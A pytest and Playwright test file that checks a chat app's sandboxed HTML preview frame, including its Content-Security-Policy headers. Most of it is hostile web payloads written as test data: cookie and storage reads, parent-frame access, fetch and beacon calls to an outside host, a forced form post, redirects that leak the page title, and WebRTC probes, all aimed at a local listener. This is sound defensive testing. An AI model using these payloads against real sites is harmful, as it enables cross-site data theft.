"""An answer's HTML in its frame: it is shown, and whatever it tries stays there. In a real browser."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterator

import aiohttp
import pytest
import pytest_asyncio
from msgspec import Struct, field
from playwright.async_api import Browser, BrowserContext, Frame, Page, expect

from tests.connectors.web.conftest import PageServer, enter
from tests.connectors.web.test_page import MANY, answers, ask, done, unique

pytestmark = pytest.mark.asyncio(loop_scope="session")

CARD = """```html
<style>h1 { color: rgb(1, 2, 3) }</style>
<h1>Nest</h1><button onclick="this.textContent = 'clicked'">press</button>
<script>document.querySelector("h1").textContent += " box"</script>
```"""


class Outside(Struct):
    """Another host: everything that reaches it, over TCP and UDP."""

    url: str
    stun: str
    heard: list[str] = field(default_factory=list)


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, heard: list[str]) -> None:
        self.heard = heard

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.heard.append("udp")


@pytest_asyncio.fixture(loop_scope="session")
async def outside() -> AsyncIterator[Outside]:
    heard: list[str] = []

    async def connected(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append("connected")
        writer.close()

    server = await asyncio.start_server(connected, "127.0.0.1", 0)
    loop = asyncio.get_running_loop()
    udp, _ = await loop.create_datagram_endpoint(lambda: _Datagrams(heard), ("127.0.0.1", 0), family=socket.AF_INET)
    tcp_port, udp_port = server.sockets[0].getsockname()[1], udp.get_extra_info("sockname")[1]
    yield Outside(url=f"http://127.0.0.1:{tcp_port}", stun=f"stun:127.0.0.1:{udp_port}", heard=heard)
    udp.close()
    server.close()
    await server.wait_closed()


@pytest_asyncio.fixture(loop_scope="session")
async def quiet(browser: Browser) -> AsyncIterator[BrowserContext]:
    """A browser whose console may complain: what a hostile page tries is refused aloud."""
    context = await browser.new_context(locale="en-GB", viewport={"width": 1200, "height": 800})
    context.set_default_timeout(15_000)
    yield context
    await context.close()


async def shown(page: Page, text: str) -> Frame:
    """Ask for an echo of `text` and preview it."""
    await ask(page, text)
    await expect(done(page)).to_have_count(1)
    await page.get_by_role("button", name="Preview").click()
    element = await page.wait_for_selector("iframe.preview-frame")
    frame = await element.content_frame()
    assert frame is not None
    return frame


async def test_html_in_an_answer_is_shown_and_works(context: BrowserContext, page_server: PageServer) -> None:
    page = await enter(context, page_server, page_server.fast)
    await shown(page, CARD)
    frame = page.frame_locator("iframe.preview-frame")
    await expect(frame.get_by_role("heading")).to_have_text("Nest box")
    await expect(frame.get_by_role("heading")).to_have_css("color", "rgb(1, 2, 3)")
    await frame.get_by_role("button", name="press").click()
    await expect(frame.get_by_role("button")).to_have_text("clicked")
    await expect(page.locator(".code pre")).to_be_hidden()
    await page.get_by_role("button", name="Code", exact=True).click()
    await expect(page.locator("iframe")).to_have_count(0)
    await expect(page.locator(".code pre")).to_contain_text("<h1>Nest</h1>")


async def test_wide_is_over_the_whole_window_until_it_is_closed(
    context: BrowserContext, page_server: PageServer
) -> None:
    page = await enter(context, page_server, page_server.fast)
    await ask(page, CARD)
    await page.get_by_role("button", name="Open wide").click()
    box = await page.locator("dialog iframe").bounding_box()
    assert box is not None
    assert box["width"] > 1100
    assert box["height"] > 650
    await expect(page.frame_locator("dialog iframe").get_by_role("heading")).to_have_text("Nest box")
    await page.get_by_role("dialog").get_by_role("button", name="Close").click()
    await expect(page.locator("iframe")).to_have_count(0)


async def test_a_document_without_a_fence_is_shown_too(context: BrowserContext, page_server: PageServer) -> None:
    page = await enter(context, page_server, page_server.fast)
    await shown(page, "Here it is:\n<!DOCTYPE html>\n<html><body>\n\n<p id=x>perch</p>\n\n</body></html>\nEnjoy *it*.")
    await expect(page.frame_locator("iframe").locator("#x")).to_have_text("perch")
    await expect(page.locator(".markdown em")).to_have_text("it")


async def test_a_style_sheet_and_a_script_beside_the_html_are_part_of_it(
    context: BrowserContext, page_server: PageServer
) -> None:
    page = await enter(context, page_server, page_server.fast)
    css, script = "```css\np { color: rgb(9, 8, 7) }\n```", "```js\ndocument.querySelector('p').id = 'made'\n```"
    await shown(page, f"```html\n<p>egg</p>\n```\n{css}\n{script}")
    await expect(page.frame_locator("iframe").locator("#made")).to_have_css("color", "rgb(9, 8, 7)")


async def test_there_is_no_preview_before_the_answer_is_whole(context: BrowserContext, page_server: PageServer) -> None:
    page = await enter(context, page_server, page_server.slow)
    await ask(page, f"```html\n<p>{MANY}</p>\n```")
    await expect(answers(page)).to_contain_text("w3")
    await expect(page.locator(".exchange")).to_have_attribute("data-status", "open")
    await expect(page.get_by_role("button", name="Preview")).to_have_count(0)
    await expect(page.get_by_role("button", name="Preview")).to_be_visible()
    await expect(done(page)).to_have_count(1)


async def test_other_code_has_no_preview(context: BrowserContext, page_server: PageServer) -> None:
    page = await enter(context, page_server, page_server.fast)
    await ask(page, "```python\nprint('<html>')\n```")
    await expect(done(page)).to_have_count(1)
    await expect(page.get_by_role("button", name="Copy", exact=True)).to_be_visible()
    await expect(page.get_by_role("button", name="Preview")).to_have_count(0)


ATTEMPTS = {
    "cookie": "document.cookie",
    "storage": "localStorage.length",
    "session storage": "sessionStorage.length",
    "database": "indexedDB.open('x')",
    "parent's document": "parent.document.title",
    "parent's functions": "parent.eval('1')",
    "parent's storage": "parent.localStorage.length",
    "top's address": "top.location.href = 'OUTSIDE/top'",
    "parent's address": "parent.location = 'OUTSIDE/parent'",
    "a window": "if (!open('OUTSIDE/window')) throw 'refused'",
    "fetch": "await fetch('OUTSIDE/fetch', {mode: 'no-cors'})",
    "our own interface": "await fetch('PAGE/api/me', {credentials: 'include'})",
    "the page itself": "await fetch('PAGE/', {mode: 'no-cors'})",
    "a beacon": "navigator.sendBeacon('OUTSIDE/beacon', 'x'); throw 'blocked by policy, which it does not say'",
    "a socket": "await new Promise((done, no) => { const s = new WebSocket('WS'); s.onopen = done; s.onerror = no })",
    "events": "await new Promise((done, no) => { const s = new EventSource('OUTSIDE/e'); "
    "s.onopen = done; s.onerror = no })",
    "a script": "await new Promise((done, no) => { const s = document.createElement('script'); s.onload = done; "
    "s.onerror = no; s.src = 'OUTSIDE/s.js'; document.head.append(s) })",
    "an image": "await new Promise((done, no) => { const i = new Image(); i.onload = done; i.onerror = no; "
    "i.src = 'OUTSIDE/i.png' })",
    "a worker": "await new Promise((done, no) => { const w = new Worker(URL.createObjectURL("
    "new Blob(['postMessage(1)']))); w.onmessage = done; w.onerror = no })",
}


async def test_hostile_html_reaches_neither_the_page_nor_its_secrets_nor_the_network(
    quiet: BrowserContext, page_server: PageServer, outside: Outside
) -> None:
    page = await enter(quiet, page_server, page_server.fast)
    await ask(page, "hello")
    await expect(done(page)).to_have_count(1)
    cookies, address, title = await quiet.cookies(), page.url, await page.title()
    tries = "".join(f"await attempt({name!r}, async () => {{ {code} }});\n" for name, code in ATTEMPTS.items())
    tries = tries.replace("WS", outside.url.replace("http", "ws")).replace("OUTSIDE", outside.url)
    tries = tries.replace("PAGE", page_server.url)
    script = f"""<script>
    window.done = {{}};
    async function attempt(name, what) {{
      try {{ await what(); done[name] = "WENT THROUGH"; }} catch (error) {{ done[name] = String(error); }}
    }}
    (async () => {{ {tries} done.end = "yes"; }})();
    </script>"""
    hints = "".join(
        f'<link rel="{rel}" href="{outside.url}/{rel}" as="script">'
        for rel in ("stylesheet", "prefetch", "preload", "modulepreload", "icon", "manifest", "prerender")
    )
    media = "".join(
        f'<{tag} src="{outside.url}/{tag}"></{tag}>' for tag in ("iframe", "video", "audio", "embed", "object", "frame")
    )
    form = f'<form id="f" method="post" action="{outside.url}/form"><input name="a"></form><script>f.submit()</script>'
    style = f"<style>@import '{outside.url}/i.css'; body {{ background: url({outside.url}/b.png) }}</style>"
    await ask(page, f"```html\n<base href='{outside.url}/'>{hints}{style}{media}{form}{script}\n```")
    await expect(done(page)).to_have_count(2)
    await page.get_by_role("button", name="Preview").click()
    element = await page.wait_for_selector("iframe.preview-frame")
    frame = await element.content_frame()
    assert frame is not None
    await frame.wait_for_function("window.done?.end")
    told = await frame.evaluate("window.done")
    assert {name for name in ATTEMPTS if told[name] == "WENT THROUGH"} == set()
    assert outside.heard == []
    assert await frame.evaluate("self.origin") == "null"
    assert (page.url, await page.title(), len(quiet.pages)) == (address, title, 1)
    assert await quiet.cookies() == cookies
    await ask(page, unique("still here"))
    await expect(done(page)).to_have_count(3)


@pytest.mark.parametrize(
    "html",
    [
        '<meta http-equiv="refresh" content="0; url=OUTSIDE/refresh">',
        "<script>location = 'OUTSIDE/self?' + document.title</script>",
        "<script>location = 'PAGE/'</script>",
        "<script>location.reload()</script>",
    ],
    ids=["refresh", "another host", "the page", "again"],
)
async def test_a_frame_that_goes_elsewhere_gets_nowhere(
    quiet: BrowserContext, page_server: PageServer, outside: Outside, html: str
) -> None:
    page = await enter(quiet, page_server, page_server.fast)
    frame = await shown(page, f"```html\n{html.replace('OUTSIDE', outside.url).replace('PAGE', page_server.url)}\n```")
    await expect(frame.locator("body.neterror")).to_be_attached()
    assert outside.heard == []
    assert len(quiet.pages) == 1
    await page.get_by_role("button", name="Code", exact=True).click()
    await ask(page, unique("still here"))
    await expect(done(page)).to_have_count(2)


async def test_a_link_in_the_frame_does_nothing(
    quiet: BrowserContext, page_server: PageServer, outside: Outside
) -> None:
    page = await enter(quiet, page_server, page_server.fast)
    address = page.url
    links = f"<a href='{outside.url}/a' target=_top>one</a><a href='{outside.url}/b'>two</a><a href='#end'>three</a>"
    await shown(
        page, f"```html\n{links}<p id=end>here</p><script>onclick = (e) => (e.target.id = 'tried')</script>\n```"
    )
    frame = page.frame_locator("iframe")
    for name in ("one", "two", "three"):
        await frame.get_by_role("link", name=name).click()
        await expect(frame.get_by_role("link", name=name)).to_have_id("tried")
    await expect(frame.locator("#end")).to_have_text("here")
    assert (page.url.split("#")[0], outside.heard, len(quiet.pages)) == (address.split("#")[0], [], 1)


async def test_a_monstrous_page_moves_nothing_and_blocks_nothing(
    context: BrowserContext, page_server: PageServer
) -> None:
    page = await enter(context, page_server, page_server.fast)
    await shown(
        page,
        "```html\n<div style='position:fixed;inset:0;z-index:99999;width:9999999px;height:9999999px'>big</div>"
        "<script>document.body.append('x'); setTimeout(() => { for (;;); }, 0)</script>\n```",
    )
    box = await page.locator("iframe.preview-frame").bounding_box()
    assert box is not None
    assert box["height"] <= 500
    assert await page.evaluate("document.documentElement.scrollWidth") == 1200
    await page.get_by_role("textbox", name="Message").fill("typed while the frame spins")
    await page.get_by_role("button", name="Code", exact=True).click()
    await expect(page.locator("iframe")).to_have_count(0)


async def test_calls_between_people_are_no_way_out(
    quiet: BrowserContext, page_server: PageServer, outside: Outside
) -> None:
    page = await enter(quiet, page_server, page_server.fast)
    frame = await shown(
        page,
        f"""```html
<iframe></iframe><script>
window.done = [];
for (const world of [window, frames[0]]) try {{
  const call = new world.RTCPeerConnection({{iceServers: [{{urls: "{outside.stun}"}}]}});
  call.createDataChannel("x");
  call.onicegatheringstatechange = () => call.iceGatheringState === "complete" && done.push("gathered");
  call.createOffer().then((offer) => call.setLocalDescription(offer)).catch((error) => done.push(String(error)));
}} catch (error) {{ done.push(String(error)); }}
</script>
```""",
    )
    await frame.wait_for_function("window.done?.length === 2")
    assert outside.heard == []


async def test_the_empty_frame_belongs_to_our_own_page_alone(page_server: PageServer) -> None:
    async with aiohttp.ClientSession() as session, session.get(page_server.url + "/preview") as answer:
        policy = answer.headers["Content-Security-Policy"]
        assert "sandbox allow-scripts;" in policy
        assert "default-src 'none'" in policy
        assert "frame-ancestors 'self'" in policy
        assert "allow-same-origin" not in policy
        assert answer.headers["X-Frame-Options"] == "SAMEORIGIN"
    async with aiohttp.ClientSession() as session, session.get(page_server.url + "/") as answer:
        assert "unsafe-inline" not in answer.headers["Content-Security-Policy"]
        assert answer.headers["X-Frame-Options"] == "DENY"
